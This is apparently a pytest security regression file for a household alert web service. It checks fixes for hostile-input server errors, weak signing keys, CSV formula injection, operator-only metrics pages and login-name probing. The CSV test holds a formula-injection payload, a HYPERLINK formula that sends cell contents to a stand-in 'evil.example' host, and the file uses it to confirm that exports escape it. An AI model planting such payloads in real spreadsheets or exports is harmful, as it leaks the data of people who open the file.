"""Issue 17, low findings: server errors on hostile input, a weak signing key, CSV formula injection."""

from __future__ import annotations

from pathlib import Path

import psycopg
import pytest

from mimamori.kernel.config import Settings
from support.web import app_client, bearer

pytestmark = [pytest.mark.security]


@pytest.mark.unit
def test_an_empty_secret_key_file_is_refused(tmp_path: Path) -> None:
    from mimamori.kernel import signing

    (tmp_path / "secret_key").write_text("\n")
    with pytest.raises(RuntimeError, match="secret key"):
        signing.signer(Settings(data_dir=tmp_path), "csrf")
    (tmp_path / "secret_key").unlink()
    assert len(signing.secret_key(Settings(data_dir=tmp_path))) >= 32  # a missing file: a new key


@pytest.mark.integration
def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:
    url, clock, ids = world
    with app_client(url, clock) as c:
        h = {**bearer(c, "coord_a"), "content-type": "application/json"}
        for method, path, body in [
            ("PUT", "/api/alerts/chains/h1", '{"steps": NaN}'),
            ("PUT", "/api/alerts/chains/h1", '{"steps": [{"type": "wait", "minutes": Infinity}]}'),
            ("POST", f"/api/alerts/{ids['h1']}/resolve", '{"outcome": "away", "away_until": NaN}'),
            ("POST", "/api/households/h1/team", '{"person_id": "watcher_a", "tier": NaN}'),
            ("POST", "/api/households/h1/away", '{"until": "9999-12-31"}'),
        ]:
            r = c.request(method, path, content=body, headers=h)
            assert r.status_code == 422, (method, path, body, r.status_code, r.text[:200])


@pytest.mark.unit
def test_a_residents_return_date_of_9999_is_invalid_input() -> None:
    from mimamori.alerts.models import InvalidInput
    from mimamori.alerts.resident import away_until_from_date

    with pytest.raises(InvalidInput):
        away_until_from_date("9999-12-31", "Asia/Tokyo", 1_767_225_600.0)


@pytest.mark.integration
def test_the_household_export_csv_runs_no_formulas(world) -> None:
    url, clock, _ = world
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("UPDATE households SET display_name = %s WHERE household_id = 'h1'", (formula,))
        conn.execute("UPDATE household_contacts SET address = '@SUM(1+1)' WHERE household_id = 'h1'")
    with app_client(url, clock) as c:
        r = c.get("/api/households/h1/export.csv?request_note=asked+by+phone", headers=bearer(c, "coord_a"))
        assert r.status_code == 200, r.text
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], [c for c in cells if c[:1] in ("=", "+", "@")]


@pytest.mark.integration
def test_a_dead_letter_keeps_only_the_head_of_a_huge_payload(pg_url: str) -> None:
    from mimamori.ingest.batch import Batch
    from mimamori.ingest.store import prepare, write_batch
    from mimamori.ingest.validate import DeadLetter

    with psycopg.connect(pg_url) as conn:
        prepare(conn)
        b = Batch()
        b.add(DeadLetter("mimamori/v1/gw/d/event", b"x" * 60_000, "oversized", "60000 bytes"))
        b.add(DeadLetter("mimamori/v1/gw/d/event", b"y" * 100, "bad_json", ""))
        write_batch(conn, b, 1_767_225_600.0)
        rows = conn.execute("SELECT length(payload), detail FROM dead_letters ORDER BY id").fetchall()
    assert rows[0][0] <= 4096 and "60000" in rows[0][1]
    assert rows[1][0] == 100


@pytest.mark.integration
def test_metrics_and_the_api_schema_are_the_operators_only(pg_url: str) -> None:
    """Issue 17: /metrics, /docs, /openapi.json were public on the app's port. Now only clients in
    MIMAMORI_OPS_NETWORKS (default: this machine) see them; anyone else gets a 404."""
    from fastapi.testclient import TestClient

    from mimamori.app.main import OPERATOR_PATHS, create_app
    from mimamori.kernel.clock import ManualClock
    from mimamori.kernel.config import Settings

    app = create_app(Settings(), database_url=pg_url, clock=ManualClock(1_767_225_600.0))
    for client, expected in ((("203.0.113.7", 40000), 404), (("127.0.0.1", 40000), 200)):
        with TestClient(app, client=client) as c:
            for path in ("/metrics", "/openapi.json", "/docs"):
                assert c.get(path).status_code == expected, (client, path)
            assert c.get("/healthz").status_code == 200  # the health checks stay public
    assert {"/metrics", "/openapi.json", "/docs", "/redoc"} <= OPERATOR_PATHS
    # Behind the proxy, the proxy's own address does not make a client an operator.
    app = create_app(Settings(trusted_proxies="10.0.0.2", ops_networks="127.0.0.1,192.168.50.0/24"),
                     database_url=pg_url, clock=ManualClock(1_767_225_600.0))
    with TestClient(app, client=("10.0.0.2", 40000)) as c:
        assert c.get("/metrics", headers={"x-forwarded-for": "198.51.100.9"}).status_code == 404
        assert c.get("/metrics", headers={"x-forwarded-for": "192.168.50.20"}).status_code == 200


@pytest.mark.integration
def test_an_invitation_is_not_an_oracle_for_login_names(world) -> None:
    """Issue 17: accepting an invitation answered "login already taken" as often as asked, so one
    invitation could test every login name. Now a few taken names per invitation, then 429."""
    from mimamori.app.auth import service as auth

    url, clock, _ = world
    with psycopg.connect(url, autocommit=True) as conn:
        coord = auth.get_person(conn, "coord_a")
        token, _ = auth.create_invitation(conn, clock, coord, role="watcher", display_name="新しい人", area="north")
    with app_client(url, clock) as c:
        codes = [c.post(f"/api/invitations/{token}/accept", json={"login": name, "password": "long enough 1"}).status_code
                 for name in ("watcher-a", "coord-a", "coord-b", "oper", "resident-1", "resident-2", "watcher-b")]
        assert codes[:auth.MAX_TAKEN_NAMES_PER_INVITATION] == [409] * auth.MAX_TAKEN_NAMES_PER_INVITATION
        assert set(codes[auth.MAX_TAKEN_NAMES_PER_INVITATION:]) == {429}
        # The window passes: the invitation works again for a free name.
        clock.advance(16 * 60)
        assert c.post(f"/api/invitations/{token}/accept", json={"login": "fresh-name", "password": "long enough 1"}).status_code == 201
